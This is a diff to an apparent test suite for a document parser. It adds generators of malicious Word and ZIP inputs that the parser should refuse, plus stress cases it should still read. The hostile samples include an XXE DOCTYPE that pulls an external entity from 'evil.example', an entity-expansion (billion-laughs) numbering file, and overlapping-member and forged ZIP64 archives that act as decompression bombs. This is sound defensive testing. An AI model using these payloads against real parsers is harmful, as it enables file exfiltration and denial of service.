@@ -63,6 +63,32 @@ def lying(data: bytes, size: int) -> bytes:
     return data[: at + 24] + struct.pack("<L", size) + data[at + 28 :]
 
 
+def overlapping(data: bytes, count: int) -> bytes:
+    """The archive of one member, which its directory lists so many times under other names."""
+    at, end = data.index(b"PK\x01\x02"), data.index(b"PK\x05\x06")
+    length = struct.unpack_from("<H", data, at + 28)[0]
+    directory = b""
+    for number in range(count):
+        name = b"%06d.txt" % number
+        directory += data[at : at + 28] + struct.pack("<H", len(name)) + data[at + 30 : at + 46] + name
+        directory += data[at + 46 + length : end]
+    counts = struct.pack("<HHLL", count & 0xFFFF, count & 0xFFFF, len(directory), at)
+    return data[:at] + directory + data[end : end + 8] + counts + data[end + 20 :]
+
+
+def far(data: bytes, size: int, packed: int, offset: int) -> bytes:
+    """The archive, whose directory gives its first member these places and lengths, in 64 bits (ZIP64)."""
+    at, end = data.index(b"PK\x01\x02"), data.index(b"PK\x05\x06")
+    name = at + 46 + struct.unpack_from("<H", data, at + 28)[0]
+    extra = struct.pack("<HH3Q", 1, 24, size, packed, offset)
+    entry = bytearray(data[at:name])
+    struct.pack_into("<LL", entry, 20, 0xFFFFFFFF, 0xFFFFFFFF)
+    struct.pack_into("<H", entry, 30, len(extra))
+    struct.pack_into("<L", entry, 42, 0xFFFFFFFF)
+    whole = struct.pack("<L", end - at + len(extra))
+    return data[:at] + bytes(entry) + data[at + 46 : name] + extra + data[name : end + 12] + whole + data[end + 16 :]
+
+
 def encrypted(data: bytes) -> bytes:
     """The archive, whose directory says that its first member is encrypted."""
     at = data.index(b"PK\x01\x02")
@@ -142,6 +168,20 @@ REFUSED: dict[str, tuple[Callable[[], bytes], str]] = {
     "a million members.docx": (lambda: listing(400 * MEGABYTE), "lists more files"),
     "not words.docx": (lambda: archive({"a.txt": "甲"}), "no Word document"),
     "unknown letters.docx": (lambda: docx(before="<?xml version='1.0' encoding='x-none'?>"), "damaged"),
+    "entities in its numbering.docx": (
+        lambda: archive(
+            {
+                "word/document.xml": f"<w:document {W}><w:body>{TEXT}</w:body></w:document>",
+                "word/numbering.xml": f"{LAUGHS}<w:numbering {W}>&j;</w:numbering>",
+            }
+        ),
+        "entities",
+    ),
+    "entities of parameters.docx": (
+        lambda: docx(before='<!DOCTYPE a [<!ENTITY % b SYSTEM "http://evil.example/a.dtd"> %b;]>'),
+        "entities",
+    ),
+    "members over one another.docx": (lambda: overlapping(docx(TEXT * 100), 50), "over one another"),
     "archive.zip": (lambda: archive({"a.zip": archive({"b.zip": "甲"})}), "archive inside"),
     "nothing.docx": (lambda: docx("<w:p/>" * 10), "no text"),
     "deep.html": (lambda: ("<html>" + "<div>" * 100_000 + "甲").encode(), "deep"),
@@ -185,11 +225,32 @@ READ: dict[str, tuple[Callable[[], bytes], str]] = {
         ),
         "| 1 |",
     ),
+    "empty paragraphs.docx": (lambda: docx("<w:p/>" * 100_000 + TEXT), "270亿元"),
+    "one paragraph of tabs.docx": (
+        lambda: docx("<w:p><w:r><w:t>甲</w:t>" + "<w:tab/>" * 100_000 + "<w:t>乙</w:t></w:r></w:p>"), "乙"
+    ),
+    "attributes.docx": (
+        lambda: docx("<w:p " + " ".join(f'a{n}="1"' for n in range(50_000)) + "><w:r><w:t>甲乙</w:t></w:r></w:p>"),
+        "甲乙",
+    ),
+    "one comment.docx": (lambda: docx("<!--" + "a" * 20 * MEGABYTE + "-->" + TEXT), "270亿元"),
+    "long table.docx": (
+        lambda: docx(
+            "<w:tbl>"
+            + "<w:tr><w:tc><w:p><w:r><w:t>1</w:t></w:r></w:p></w:tc></w:tr>" * 20_000
+            + "<w:tr>" + "<w:tc><w:p><w:r><w:t>2</w:t></w:r></w:p></w:tc>" * 64 + "</w:tr></w:tbl>"
+        ),
+        "| 1 |",
+    ),
     "tables in tables.docx": (
         lambda: docx(
             "<w:tbl><w:tr><w:tc>" * 60 + "<w:p><w:r><w:t>甲乙</w:t></w:r></w:p>" + "</w:tc></w:tr></w:tbl>" * 60
         ),
         "甲乙",
+    ),
+    "long table.html": (
+        lambda: ("<html><table>" + "<tr><td>1" * 40_000 + "<tr>" + "<td>2" * 64 + "</table>").encode(),
+        "| 1 |",
     ),
     "wide table.html": (
         lambda: ("<html><table>" + "<tr><td>1" * 5_000 + "<tr>" + "<td>2" * 5_000 + "</table>").encode(),
